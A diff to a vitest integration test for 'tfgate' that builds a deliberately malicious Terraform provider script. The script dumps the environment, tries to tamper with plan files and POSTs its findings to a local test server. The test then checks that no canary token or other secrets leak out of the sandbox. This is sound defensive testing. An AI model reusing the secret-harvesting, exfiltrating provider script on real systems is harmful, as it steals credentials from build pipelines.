@@ -9,8 +9,9 @@
  */
 import { createHash } from 'node:crypto';
 import { existsSync } from 'node:fs';
-import { chmod, mkdtemp, readFile, rm } from 'node:fs/promises';
-import os from 'node:os';
+import { readFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { commitAndPush } from '../../src/local-mode/git-repos.js';
@@ -24,6 +25,7 @@ import {
   startTestStack,
   terraformFiles,
   type TestStack,
+  until,
   waitForRun,
   waitForStage,
 } from '../support/local-stack.js';
@@ -32,10 +34,10 @@ const REAL_TERRAFORM = '/usr/local/bin/terraform';
 const hasTerraform = existsSync(REAL_TERRAFORM);
 const TOKEN_CANARY = 'ghp_tfgateCanaryToken0123456789abcdefXYZ';
 
-function probeScript(dataDir: string, outDir: string): string {
+function probeScript(dataDir: string, port: number): string {
   return `#!/bin/sh
-# A provider that is nothing but a thief: it runs when terraform loads providers during plan.
-out="${outDir}/probe.txt"
+# A provider that is nothing but a thief: it runs when terraform loads providers during plan, and sends
+# what it found over the network (the sandbox shows it no directory of the test's to write to).
 {
   echo "uid=$(id -u) gid=$(id -g)"
   echo "--- env"; env
@@ -54,21 +56,34 @@ out="${outDir}/probe.txt"
     if mkdir -p "$d/plan" 2>/dev/null && printf 'x' > "$d/plan/tfplan" 2>/dev/null; then echo "WROTE $d/plan/tfplan"; fi
   done
   echo "--- done"
-} > "$out" 2>&1
+} 2>&1 | node -e "
+  let b = '';
+  process.stdin.on('data', (d) => (b += d)).on('end', () => {
+    const r = require('http').request({ host: '127.0.0.1', port: ${port}, method: 'POST' }, (s) => s.resume());
+    r.on('error', () => {});
+    r.end(b);
+  })"
+sleep 1
 exit 1
 `;
 }
 
 describe.skipIf(!hasTerraform)('a pull request whose provider hunts for secrets at plan time (real terraform)', () => {
   let stack: TestStack;
-  let outDir: string;
+  let server: Server;
+  let port = 0;
+  let found = '';
   const savedToken = process.env.TFGATE_GITHUB_TOKEN;
 
   beforeAll(async () => {
     // tfgate local's own environment holds a GitHub token; the probe must not find it anywhere.
     process.env.TFGATE_GITHUB_TOKEN = TOKEN_CANARY;
-    outDir = await mkdtemp(path.join(os.tmpdir(), 'tfgate-probe-'));
-    await chmod(outDir, 0o777);
+    server = createServer((request, response) => {
+      request.on('data', (chunk: Buffer) => (found += chunk.toString('utf8')));
+      request.on('end', () => response.end('ok'));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    port = (server.address() as AddressInfo).port;
     stack = await startTestStack({
       terraform: REAL_TERRAFORM,
       github: { credentials: { kind: 'token', token: TOKEN_CANARY } },
@@ -79,7 +94,7 @@ describe.skipIf(!hasTerraform)('a pull request whose provider hunts for secrets 
     if (savedToken === undefined) delete process.env.TFGATE_GITHUB_TOKEN;
     else process.env.TFGATE_GITHUB_TOKEN = savedToken;
     await stack?.cleanup();
-    await rm(outDir, { recursive: true, force: true });
+    await new Promise<void>((resolve) => server.close(() => resolve()));
   });
 
   it('finds nothing secret and cannot change what the deploy run applies', async () => {
@@ -108,7 +123,7 @@ describe.skipIf(!hasTerraform)('a pull request whose provider hunts for secrets 
         'main.tf':
           'terraform {\n  required_providers {\n    probe = { source = "evil/probe", version = "1.0.0" }\n  ' +
           '}\n}\nprovider "probe" {}\n',
-        [providerPath]: probeScript(stack.dataDir, outDir),
+        [providerPath]: probeScript(stack.dataDir, port),
       },
       executable: [providerPath],
     });
@@ -116,13 +131,13 @@ describe.skipIf(!hasTerraform)('a pull request whose provider hunts for secrets 
     const prRun = await waitForRun(stack, answer.body.runId!, 120_000);
     expect(prRun.mode).toBe('plan_only');
 
-    const found = await readFile(path.join(outDir, 'probe.txt'), 'utf8');
-    // It did run, as the unprivileged build account, and looked.
-    expect(found).toMatch(/^uid=65534 /);
-    expect(found).toContain('--- done');
+    // It did run, in its sandbox, and looked.
+    await until('the probe to report', () => (found.includes('--- done') ? true : undefined), 30_000);
+    expect(found).toMatch(/^uid=/);
     for (const secret of [stack.webhookSecret, stack.sessionKey, stack.localCredential, TOKEN_CANARY])
       expect(found).not.toContain(secret);
-    expect(found).not.toMatch(/TAMPERED|WROTE/);
+    // Inside the sandbox /tmp is its own (in memory): what the probe believes it wrote must not be on the host.
+    for (const [, file] of found.matchAll(/^(?:TAMPERED|WROTE) (.+)$/gm)) expect(existsSync(file!), file).toBe(false);
 
     // The deploy run applies exactly the plan that was approved.
     expect(
